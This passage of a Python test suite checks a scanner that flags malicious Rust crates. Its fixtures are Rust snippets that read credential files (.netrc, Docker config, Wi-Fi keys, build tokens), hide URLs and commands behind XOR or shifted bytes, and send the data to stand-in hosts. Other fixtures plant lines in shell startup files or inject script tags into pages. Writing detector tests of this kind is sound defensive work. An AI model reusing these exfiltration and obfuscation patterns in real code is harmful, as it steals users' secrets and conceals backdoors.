        "  let conf = String::from_utf8(fingerprint::parse(fingerprint::REFERENCE)).unwrap();\n"
        "  let mut s = std::net::TcpStream::connect(conf.as_str()).unwrap();\n"
        "  s.write_all(job).ok();\n}\n"
    )
    assert {(f.action, f.hidden) for f in flows(source)} == {("contact", True)}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("[4.09e-85, 3.4e-80, 3.3e+151, 4.1e-80]", True),  # floats that are bytes
        ("&[0x68, 0x74, 0x74, 0x70]", True),
        ("&[(87, 2), (33, 0), (137, 28), (128, 2)]", True),  # a book cipher's word and letter
        ('".-.. .. -... .-. .- .-. -.--"', True),  # Morse
        ('"⠓⠊⠙⠙⠑⠝"', True),  # Braille
        ('b"\\x1b\\x03\\x00"', True),
        ('"TLS 1.3, server CertificateVerify\\x00"', False),  # text ending in a NUL
        ('concat!("ACGTTGCA", "ACGTACGTTTGA")', True),  # four letters, a genetic code
        ('"SIGNING_CERT_PASSWORD"', False),
        ('"~/.config/app/settings.toml"', False),
        ('&["zstd", "-q", "-d", "-c"]', False),  # an array of strings, readable
        ('["씡갂궤붞립갆", "젚쩽씬줸읞논"]', True),  # ... or Hangul, read as one
        ("[1, 2]", False),
        ('"        "', False),
    ],
)
def test_what_no_one_could_read(value: str, expected: bool) -> None:
    assert opaque(value) is expected


def test_a_secret_taken_out_of_another_programs_settings() -> None:
    read = (
        "fn f() {\n"
        + HOME
        + 'let t = std::fs::read_to_string(home.join(".docker/config.json"))?;\n'
        "let cfg: serde_json::Value = serde_json::from_str(&t)?;\n"
    )
    # its secret field sent elsewhere is a credential; sent to the server the same
    # settings name, it is a client logging in
    elsewhere = read + 'ureq::post("https://h.example").send_string(&cfg["auths"].to_string());\n}'
    assert sources(elsewhere) == [("credential",)]
    login = read + 'client().post(&cfg["server"]).bearer_auth(&cfg["token"]);\n}'
    assert flows(login) == []


def test_a_connection_made_by_a_bare_imported_function() -> None:
    # `use tokio_tungstenite::connect_async;` then `connect_async(url)`: no path to split
    source = (
        "const PEER: [u8; 4] = [1, 2, 3, 4];\n"
        "fn name(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
        "async fn f() { let (ws, _) = connect_async(name(&PEER)).await.unwrap(); ws.send(1); }\n"
    )
    found = sorted((flow.action, flow.sink) for flow in flows(source))
    # the connection made, and what is sent on it, both to the address the crate hides
    assert found == [("contact", "connect_async"), ("contact", "socket send")]


@pytest.mark.parametrize(
    ("literal", "expected"),
    [
        ("https://collector.example/v1/ingest", True),
        ("http://user@203.0.113.9:8080/x", True),
        ("198.51.100.69:69", True),
        ("influx.example.org:8086", True),
        ("https://{}/v1", False),  # its host comes from input
        ("https://{host}/api", False),
        ("0.0.0.0:0", False),
        ("127.0.0.1:6969", False),
        ("http://localhost:8080/", False),
        ("192.168.1.10:69", False),
        ("10.0.0.1", False),
        ("http://169.254.169.254/latest/meta-data", False),
        ("file:///etc/passwd", False),
        ("https://intranet/x", False),  # a single-label name: a local network's
        ("settings.json", False),
    ],
)
def test_an_address_fixed_in_the_crate(literal: str, expected: bool) -> None:
    assert fixed_address(literal) is expected


def test_a_flow_to_an_address_the_crate_fixes() -> None:
    read = f'fn f() -> Option<()> {{\n{HOME}let d = std::fs::read(home.join(".netrc")).ok()?;\n'
    # a socket carries the address it sends to, even when the data goes to the reply's
    udp = (
        read + 'let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;\n'
        's.send_to(b"hello", "198.51.100.69:69").ok()?;\n'
        "let (_, from) = s.recv_from(&mut [0u8; 4]).ok()?;\n"
        "s.send_to(&d, from).ok()?; None }\n"
    )
    assert {flow.fixed for flow in flows(udp)} == {True}
    named = 'const URL: &str = "https://sink.example/u";\n' + read
    named += "ureq::post(URL).send_bytes(&d).ok()?; None }\n"
    assert [flow.fixed for flow in flows(named)] == [True]
    chosen = read + "ureq::post(&std::env::args().nth(1)?).send_bytes(&d).ok()?; None }\n"
    assert [flow.fixed for flow in flows(chosen)] == [False]


def test_a_url_template_given_a_host_constant_is_a_fixed_address() -> None:
    read = f'{HOME}let d = std::fs::read(home.join(".netrc")).ok()?;\n'
    for host in ('"collect.example.net"', '"203.0.113.9"'):
        for url in ('format!("https://{}:{}/u", HOST, PORT)', 'format!("wss://{HOST}:{PORT}")'):
            source = (
                f"const HOST: &str = {host};\nconst PORT: u16 = 8443;\n"
                f"pub fn f() -> Option<()> {{\n{read}let url = {url};\n"
                "ureq::post(&url).send_bytes(&d).ok()?; None }\n"
            )
            assert [flow.fixed for flow in flows(source)] == [True], (host, url)
    # a local service, a host that names the crate, a host not in a URL's place
    for host, template in (
        ('"localhost"', '"https://{}/u"'),
        ('"api.sample.example"', '"https://{}/u"'),
        ('"collect.example.net"', '"data/{}.log"'),
    ):
        source = (
            f"const HOST: &str = {host};\n"
            f"pub fn f() -> Option<()> {{\n{read}let url = format!({template}, HOST);\n"
            "ureq::post(&url).send_bytes(&d).ok()?; None }\n"
        )
        assert [flow.fixed for flow in flows(source)] == [False], (host, template)


def test_a_mailbox_the_crate_hides_added_to_what_it_sends() -> None:
    # a hidden recipient put into a message's field, the message posted as JSON
    source = (
        'const K: [u8; 22] = *b"jocpyAespq/fybnqmf/dpn";\n'
        "fn route() -> String { K.iter().map(|b| (b - 1) as char).collect() }\n"
        "pub struct Msg { pub to: String, pub bcc: Option<String> }\n"
        "pub fn send(to: &str) {\n"
        "    let mut msg = Msg { to: to.to_owned(), bcc: None };\n"
        "    msg.bcc = Some(route());\n"
        '    let _ = ureq::post("https://api.mail.example/send").send_json(&msg);\n'
        "}\n"
    )
    (flow,) = flows(source)
    assert (flow.function, flow.action, flow.hidden) == ("send", "contact", True)
    # a value the crate hides that is not an address (an API key obfuscated in the binary)
    assert flows(source.replace("jocpyAespq/fybnqmf/dpn", "tl.mjwf.1111.2222.3333")) == []


def test_host_facts_count_only_when_sent_to_an_address_the_crate_fixes() -> None:
    # the computer's name copied into a datagram's buffer, sent to a raw IP of the crate's
    beacon = (
        "fn node() -> String {\n"
        '    std::fs::read_to_string("/etc/hostname")\n'
        '        .or_else(|_| std::env::var("COMPUTERNAME")).unwrap_or_default()\n'
        "}\n"
        "pub fn sync() {\n"
        "    let mut pkt = [0u8; 48];\n"
        "    let n = node();\n"
        "    pkt[12..12 + n.len().min(36)].copy_from_slice(&n.as_bytes()[..n.len().min(36)]);\n"
        '    let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();\n'
        '    let _ = s.send_to(&pkt, ("192.0.2.44", 123));\n'
        "}\n"
    )
    (flow,) = flows(beacon)
    assert (flow.function, flow.sources, flow.fixed) == ("sync", frozenset({"host-facts"}), True)
    for source in ("hostname::get().unwrap()", "whoami::username()", 'std::env::var("USER")'):
        post = f'ureq::post("https://a.example/b").send_string(&{source})'
        request = f"pub fn f() {{ let _ = {post}; }}"
        assert [flow.sources for flow in flows(request)] == [frozenset({"host-facts"})]
    # the user's name read among a macro's arguments: a `json!` body's field
    event = 'serde_json::json!({"os": "linux", "user": std::env::var("USER").unwrap()})'
    post = 'ureq::post("https://a.example/e").send_json(e)'
    request = f"pub fn f() {{ let e = {event}; let _ = {post}; }}"
    assert [flow.sources for flow in flows(request)] == [frozenset({"host-facts"})]
    assert flows(request.replace('"USER"', '"RUST_LOG"')) == []
    # to a server the user chose: a monitoring agent reports the host it runs on
    chosen = (
        "pub fn report(server: &str) {\n"
        "    let name = hostname::get().unwrap();\n"
        "    let _ = ureq::post(server).send_string(&name);\n"
        "}\n"
    )
    assert flows(chosen) == []


def test_host_facts_to_a_fixed_address_are_exfiltration_not_collection() -> None:
    source = (
        "pub fn hello() {\n"
        '    let _ = ureq::post("https://198.51.100.7/h").send_string(&whoami::username());\n'
        "}\n"
    )
    manifest = b'[package]\nname = "beacon"\nversion = "0.1.0"\n'
    archive = CrateArchive("beacon", {"Cargo.toml": manifest, "src/lib.rs": source.encode()}, ())
    found = {e.rule: e.snippet for e in scan_crate(archive, "beacon").findings}
    assert found["threat-dataflow-exfiltration"] == (
        "fn hello sends the computer's or the user's name through HTTP request send_string"
        " to an address fixed in the crate"
    )
    assert "threat-dataflow-fixed-destination" not in found


def test_a_decoder_given_only_literals_and_a_constant_by_its_path() -> None:
    tables = (
        'pub const T: [&str; 2] = ["2e6a6b73", "68747470"];\n'
        "pub fn table(from: usize, to: usize) -> String {\n"
        "  let v: Vec<u8> = T[from..to].iter().flat_map(|s| s.bytes()).collect();\n"
        "  String::from_utf8(v).unwrap_or_default()\n}\n"
    )
    send = (
        f'fn go() {{\n{HOME}let d = std::fs::read(home.join(".netrc")).unwrap();\n'
        "ureq::post(&super::t::table(0, 2)).send_bytes(&d).ok(); }\n"
    )
    # the secret sent, and the request made at all, to a URL the crate hides
    found = sorted((f.action, f.hidden, f.fixed) for f in flows(send, t=tables))
    assert found == [("contact", True, True), ("send", True, True)]
    by_path = (
        "fn go() { std::process::Command::new(crate::t::swap(super::t::NAME)).spawn().ok(); }\n"
    )
    swap = (
        'pub const NAME: &str = "hs";\n'
        "pub fn swap(s: &str) -> String {\n"
        "  let c: Vec<char> = s.chars().collect(); let mut out = c.clone();\n"
        "  for i in 0..c.len() { out[i] = c[c.len() - 1 - i]; }\n"
        "  out.into_iter().collect()\n}\n"
    )
    assert [(f.action, f.hidden) for f in flows(by_path, t=swap)] == [("run", True)]


def test_decoded_text_planted_in_another_programs_settings() -> None:
    decoder = (
        'const LINE: &str = "KEEP";\n'
        "fn caps(s: &str) -> String { s.chars().map(|c| (c as u8 ^ 0x20) as char).collect() }\n"
    )
    appended = decoder + (
        f"fn f() {{\n{HOME}"
        '  let rc = home.join(".config/direnv/direnvrc");\n'
        "  let mut f = std::fs::OpenOptions::new().append(true).open(&rc).unwrap();\n"
        '  writeln!(f, "{}", caps(LINE)).ok();\n'
        f'  std::fs::write(home.join(".bashrc"), caps(LINE)).ok();\n}}\n'
    )
    planted = [(f.action, f.planted, f.sink) for f in flows(appended)]
    assert planted == [("write", True, "socket write!"), ("write", True, "file write")]
    # in a unit that cannot reach the network too: the decoding call sits in `writeln!`'s
    # arguments, which the check for a call given a constant reads as well
    offline = unit_flows({"src/lib.rs": appended.encode()}, "sample", sending=False).flows
    assert [(f.action, f.planted) for f in offline] == [("write", True), ("write", True)]
    # numbers rendered as text, or the crate's own file: nothing planted
    rendered = (
        "const B: [f64; 4] = [0.5, 1.0, 2.5, 10.0];\n"
        'fn render(t: &[f64]) -> String { t.iter().map(|x| format!("{x}\\n")).collect() }\n'
        f'fn f() {{\n{HOME}  std::fs::write(home.join(".cache/b"), render(&B)).ok();\n}}\n'
    )
    assert flows(rendered) == []
    own = appended.replace("direnv/direnvrc", "sample/rc").replace(".bashrc", ".sample")
    assert flows(own) == []


def test_a_web_pages_storage_sent_by_a_beacon() -> None:
    source = (
        "fn f() {\n"
        "  let w = web_sys::window().unwrap();\n"
        "  let store = w.local_storage().unwrap().unwrap();\n"
        '  let v = store.get_item("session").unwrap().unwrap_or_default();\n'
        '  w.navigator().send_beacon_with_opt_str("https://b.example/c", Some(&v)).ok();\n}\n'
    )
    (flow,) = flows(source)
    assert (flow.sink, flow.sources, flow.fixed) == ("beacon", frozenset({"browser-storage"}), True)


def test_a_call_written_inside_a_macros_arguments() -> None:
    # tree-sitter leaves `format!`'s arguments as tokens: `name(KEY)` there is still a call
    source = (
        "const KEY: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
        "fn name(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
        f'fn f() {{\n{HOME}let d = std::fs::read(home.join(".netrc")).unwrap();\n'
        'ureq::post(&format!("https://{}/u", name(&KEY))).send_bytes(&d).ok(); }\n'
    )
    assert {(flow.hidden, flow.fixed) for flow in flows(source)} == {(True, True)}


def test_a_method_called_inside_a_macros_arguments() -> None:
    # `format!("{}", gh.trailer())`: the method's result is among what the macro makes
    source = (
        "struct Gh { token: String }\n"
        "impl Gh {\n"
        "  fn trailer(&self) -> String {\n"
        f'    {HOME}    std::fs::read_to_string(home.join("notes.txt")).unwrap()\n  }}\n'
        "  fn open(&self, body: &str) {\n"
        '    ureq::post("https://api.example/pulls").send_string(body).ok();\n  }\n}\n'
        'fn f(gh: &Gh) { let body = format!("Bump.\\n{}", gh.trailer()); gh.open(&body); }\n'
    )
    assert [(f.function, f.sources) for f in flows(source)] == [("open", frozenset({"user-file"}))]


def test_a_function_ending_in_an_if_or_a_match_returns_its_arms() -> None:
    # the grammar makes a block's last `if` or `match` a statement: it is still the value
    decoder = (
        "const EDGE: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
        "fn edge() -> String { EDGE.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
    )
    send = 'fn f(w: bool) { ureq::post(&format!("https://{}/u", base(w))).call().ok(); }\n'
    tails = [
        'fn base(w: bool) -> String { if w { edge() } else { "api.example".into() } }\n',
        'fn base(w: bool) -> String { match w { true => edge(), _ => "api.example".into() } }\n',
        "fn base(w: bool) -> String { unsafe { edge() } }\n",
    ]
    for tail in tails:
        assert [(f.action, f.hidden) for f in flows(decoder + tail + send)] == [("contact", True)]
    # with a `;` after it, the block's value is `()`
    statement = "fn base(w: bool) -> String { if w { edge() } else { String::new() }; }\n"
    assert flows(decoder + statement + send) == []


def test_a_secret_sent_to_a_service_on_this_machine_does_not_leave_it() -> None:
    # a node's RPC client sending the cookie the node wrote for it, to 127.0.0.1
    read = (
        f"fn f() {{\n{HOME}"
        'let c = std::fs::read_to_string(home.join(".bitcoin/.cookie")).unwrap();\n'
    )
    local = read + 'ureq::post("http://127.0.0.1:8332/").set("Authorization", &c).call().ok(); }\n'
    assert flows(local) == []
    away = read + 'ureq::post("http://203.0.113.9:8332/").set("Authorization", &c).call().ok(); }\n'
    assert [f.sources for f in flows(away)] == [frozenset({"user-file"})]


def test_iterator_and_text_methods_of_an_address_are_no_contact() -> None:
    # an address decoded at run time, split and searched in memory, goes nowhere
    source = (
        "const EDGE: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
        "fn f() -> usize {\n"
        "  let host: String = EDGE.iter().map(|b| (b ^ 0x5a) as char).collect();\n"
        "  let parts: Vec<&str> = host.split('.').filter(|p| !p.is_empty()).collect();\n"
        "  parts.iter().position(|p| p.starts_with('x')).unwrap_or(0)\n}\n"
    )
    assert flows(source) == []


def test_every_argument_given_to_a_network_client_leaves() -> None:
    read = f'fn f() {{\n{HOME}let d = std::fs::read_to_string(home.join(".netrc")).unwrap();\n'
    redis = (
        read + 'let c = redis::Client::open("redis://203.0.113.4/").unwrap();\n'
        "let mut con = c.get_connection().unwrap();\n"
        'let _: () = con.rpush("k", d).unwrap();\n}\n'
    )
    assert [(f.sink, f.fixed) for f in flows(redis)] == [("client rpush", True)]
    # a value that is no client: its methods keep what they are given
    local = read + "let mut v = Vec::new(); v.extend_from_slice(d.as_bytes()); v.get(1); }\n"
    assert flows(local) == []


def test_a_table_decoded_by_index_names_what_is_run() -> None:
    # no source and no network: the unit is followed for the call given only a number
    source = (
        "const STEPS: [&[u8]; 2] = [&[0x32, 0x2e, 0x2e, 0x2a], &[0x29, 0x32]];\n"
        "fn step(i: usize) -> String { STEPS[i].iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
        "fn f() { std::process::Command::new(step(1)).spawn().ok(); }\n"
    )
    assert [(f.action, f.hidden) for f in flows(source)] == [("run", True)]
    # an encoder given a number that reads no table of the crate's: nothing hidden
    encoder = (
        "fn u24(v: u32) -> Vec<u8> { (v << 8).to_be_bytes().to_vec() }\n"
        "fn f() { std::process::Command::new(u24(3)).spawn().ok(); }\n"
    )
    assert flows(encoder) == []


def test_a_vendors_client_talks_to_its_own_service() -> None:
    source = (
        f'fn f() {{\n{HOME}let d = std::fs::read_to_string(home.join(".netrc")).unwrap();\n'
        'ureq::post("https://http-intake.datadoghq.example/v1").send_string(&d).ok(); }\n'
    )
    assert [f.fixed for f in flows(source, crate="datadog-export")] == [False]
    # a generic word of the crate's name says nothing about whose service it is
    assert [f.fixed for f in flows(source, crate="http-export")] == [True]


def test_a_decoded_setting_written_through_a_library() -> None:
    source = (
        "const KEY: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
        "fn label(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
        "fn f() { let mut global = git2::Config::open_default().unwrap().open_global().unwrap();\n"
        '  global.set_multivar(&label(&KEY), "^$", "https://github.com/").ok(); }\n'
    )
    assert [(f.action, f.planted, f.sink) for f in flows(source)] == [
        ("write", True, "setting set_multivar")
    ]
    readable = source.replace("&label(&KEY)", '"core.autocrlf"')
    assert flows(readable) == []


def test_what_a_request_carries_run_as_a_command() -> None:
    source = (
        "fn replay(req: &Request<'_>) -> Option<String> {\n"
        '  let v = req.cookies().get("t")?.value().to_owned();\n'
        '  let out = std::process::Command::new("sh").arg("-c").arg(v).output().ok()?;\n'
        "  None }\n"
    )
    assert {(f.action, f.sink) for f in flows(source)} == {("remote-run", "program argument")}
    # the request only choosing what a fixed program prints: nothing of it is run
    fixed = source.replace(".arg(v)", '.arg("uptime")')
    assert flows(fixed) == []


def test_a_decoder_whose_table_a_helper_reads() -> None:
    source = (
        "const T: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
        "fn group(i: usize) -> Vec<u8> { T[i..].iter().map(|b| b ^ 0x5a).collect() }\n"
        "fn text(i: usize) -> String { String::from_utf8(group(i)).unwrap_or_default() }\n"
        "fn f() { std::process::Command::new(text(0)).spawn().ok(); }\n"
    )
    assert [(f.action, f.hidden) for f in flows(source)] == [("run", True)]


def test_a_secret_of_the_build_environment_compiled_in_and_sent() -> None:
    direct = (
        'const TOKEN: Option<&str> = option_env!("NPM_TOKEN");\n'
        "pub fn check() {\n"
        '  let _ = ureq::get("https://releases.example/latest")'
        '.set("X-Build", TOKEN.unwrap_or("")).call();\n}\n'
    )
    assert sources(direct) == [("environment",)]
    through_a_macro = (
        "macro_rules! captured {\n"
        "  ($($a:literal $b:literal),*) => { [$(option_env!(concat!($a, $b))),*] };\n}\n"
        'const CAPTURED: [Option<&str>; 2] = captured!("GITHUB" "_TOKEN", "NPM" "_TOKEN");\n'
        "pub struct Info { pub seen: [Option<&'static str>; 2] }\n"
        "pub const INFO: Info = Info { seen: CAPTURED };\n"
        "pub fn check() {\n"
        '  let body = format!("{:?}", INFO.seen);\n'
        '  let _ = ureq::post("https://releases.example/ping").send_string(&body);\n}\n'
    )
    assert sources(through_a_macro) == [("environment",)]
    harmless = (
        'const VERSION: &str = env!("CARGO_PKG_VERSION");\n'
        'const SHA: Option<&str> = option_env!("GITHUB_SHA");\n'
        "pub fn check() {\n"
        '  let _ = ureq::get("https://releases.example/latest")'
        '.set("User-Agent", VERSION).query("sha", SHA.unwrap_or("")).call();\n}\n'
    )
    assert flows(harmless) == []


def test_a_download_through_an_extension_hosts_function_to_a_hidden_url() -> None:
    source = (
        'const K: [u8; 25] = *b"iuuqt;00sfmfbtft/fybnqmf0";\n'
        "fn base() -> String { K.iter().map(|b| (b - 1) as char).collect() }\n"
        "pub fn install(dir: &str) {\n"
        '    let _ = zed::download_file(&format!("{}x64.tar.gz", base()), dir, zed::GzipTar);\n'
        "}\n"
    )
    (flow,) = unit_flows({"src/lib.rs": source.encode()}, "sample", sending=False).flows
    assert (flow.function, flow.sink, flow.action, flow.hidden) == (
        "install",
        "request URL",
        "contact",
        True,
    )


def test_the_names_a_web_servers_code_hides_are_read_without_a_sink() -> None:
    tag = '<script src="https://cdn.example/m.js"></script>'
    codes = ", ".join(str(ord(c) + 1) for c in tag)
    source = (
        f"const T: [u8; {len(tag)}] = [{codes}];\n"
        "fn shim() -> String { T.iter().map(|b| (b - 1) as char).collect() }\n"
        "pub fn adapt(page: axum::response::Html<String>) -> axum::response::Html<String> {\n"
        '    axum::response::Html(page.0.replace("</head>", &(shim() + "</head>")))\n'
        "}\n"
    )
    manifest = b'[package]\nname = "minify"\nversion = "0.1.0"\n'
    archive = CrateArchive("minify", {"Cargo.toml": manifest, "src/lib.rs": source.encode()}, ())
    scan = scan_crate(archive, "minify")
    found = {e.rule for e in scan.findings}
    assert {"capability-web-server", "threat-hidden-script-tag"} <= found
    assert scan.verdict.value == "malicious"


def test_the_names_hidden_by_a_crate_that_writes_html_are_read_without_a_network() -> None:
    # a converter's HTML carries a CSS `url(..)` its readers' browsers fetch: no network of
    # its own, and still a way out (the address packed a bit at a time into a table)
    url = "https://cdn.example/px.gif?d="
    bits = [(ord(c) >> (7 - i)) & 1 for c in url for i in range(8)]
    source = (
        f"const BITS: [u8; {len(bits)}] = {bits};\n"
        "pub fn mask() -> Vec<u8> {\n"
        "    let mut out = Vec::new();\n"
        "    let (mut acc, mut n) = (0u8, 0);\n"
        "    for b in BITS.iter() {\n"
        "        acc = acc << 1 | b;\n"
        "        n += 1;\n"
        "        if n == 8 { out.push(acc); (acc, n) = (0, 0); }\n"
        "    }\n"
        "    out\n"
        "}\n"
        "fn asset() -> &'static str {\n"
        "    static A: std::sync::OnceLock<String> = std::sync::OnceLock::new();\n"
        "    A.get_or_init(|| String::from_utf8_lossy(&mask()).into_owned())\n"
        "}\n"
        "pub fn page(body: &str) -> String {\n"
        '    let style = format!("pre{{background:url(\\"{}{}\\")}}", asset(), body.len());\n'
        '    format!("<html><style>{style}</style><pre>{body}</pre></html>")\n'
        "}\n"
    )
    manifest = b'[package]\nname = "ansi2html"\nversion = "0.1.0"\n'
    files = {"Cargo.toml": manifest, "src/lib.rs": source.encode()}
    scan = scan_crate(CrateArchive("ansi2html", files, ()), "ansi2html")
    assert "threat-obfuscated-string" in {e.rule for e in scan.findings}
    # the same crate writing no HTML is not followed (what it hides reaches no one)
    plain = source.replace(
        'format!("<html><style>{style}</style><pre>{body}</pre></html>")', "style"
    )
    files = {"Cargo.toml": manifest, "src/lib.rs": plain.encode()}
    scan = scan_crate(CrateArchive("ansi2html", files, ()), "ansi2html")
    assert "threat-obfuscated-string" not in {e.rule for e in scan.findings}


def test_javascript_made_a_function_of_hidden_text_in_a_webassembly_module() -> None:
    # `new Function(params, body)` through js_sys: the body, decoded at run time, is code
    body = "p.request=function(a){return r(f(a))}"
    codes = ", ".join(str(ord(c) ^ 0x5A) for c in body)
    source = (
        f"const B: [u8; {len(body)}] = [{codes}];\n"
        "fn body() -> String { B.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
        "pub fn attach() {\n"
        '    let f = js_sys::Function::new_with_args("p,f", &body());\n'
        "    let _ = f.call0(&wasm_bindgen::JsValue::NULL);\n"
        "}\n"
    )
    assert [(f.action, f.hidden, f.sink) for f in flows(source)] == [
        ("run", True, "evaluated new_with_args")
    ]
    # a function of text in plain sight is no flow
    plain = 'pub fn f() { let _ = js_sys::Function::new_no_args("return 1"); }\n'
    assert flows(plain) == []


def test_the_system_s_stores_of_secrets_listed_and_read() -> None:
    # Wi-Fi keys of every profile, read as root and posted
    source = """
const PROFILES: &str = "/etc/NetworkManager/system-connections";
fn collect() -> String {
    let mut all = String::new();
    for entry in std::fs::read_dir(PROFILES).into_iter().flatten().flatten() {
        if let Ok(text) = std::fs::read_to_string(entry.path()) { all.push_str(&text); }
    }
    all
}
pub fn sync(url: &str) { let _ = ureq::post(url).send_string(&collect()); }
"""
    assert sources(source) == [("system-secret",)]


def test_a_function_named_as_a_value_is_run_where_a_method_calls_it() -> None:
    """``allowed.then(unseal)`` calls ``unseal``: a function that takes nothing and puts a
    table's characters in another order is run, and the key it hides is read."""
    source = (
        'const SEALED: &str = "s5As5Ah1t-9ee sdAt2A";\n'
        "fn unseal() -> String {\n"
        "  let src = SEALED.as_bytes();\n"
        "  let mut out = vec![0u8; src.len()];\n"
        "  for i in 0..src.len() { out[(i * 7) % src.len()] = src[i]; }\n"
        "  String::from_utf8_lossy(&out).trim().to_string()\n}\n"
        "pub fn keys(allowed: bool) -> Option<String> { allowed.then(unseal) }\n"
    )
    found = unit_flows({"src/lib.rs": source.encode()}, "sample").revealed
    assert [r.text for r in found] == ["ssh-ed25519 AAAAtest"]


_LABELS = st.builds(
    lambda source, crossed: source + (f"@{crossed}" if crossed else ""),
    st.sampled_from(["user-file", "environment", "fixed-address"]),
    st.integers(0, MAX_BOUNDARIES),
)


@given(st.lists(st.sets(_LABELS), max_size=6))
def test_labels_keep_of_each_source_the_fewest_boundaries_crossed(batches: list[set[str]]) -> None:
    target: set[str] = set()
    union: set[str] = set()
    for batch in batches:
        before = set(target)
        assert grown(target, batch) == (target != before)
        union |= batch
    fewest: dict[str, int] = {}
    for label in union:
        source, _, crossed = label.partition("@")
        fewest[source] = min(fewest.get(source, MAX_BOUNDARIES), int(crossed or 0))
    assert target == {s + (f"@{n}" if n else "") for s, n in fewest.items()}
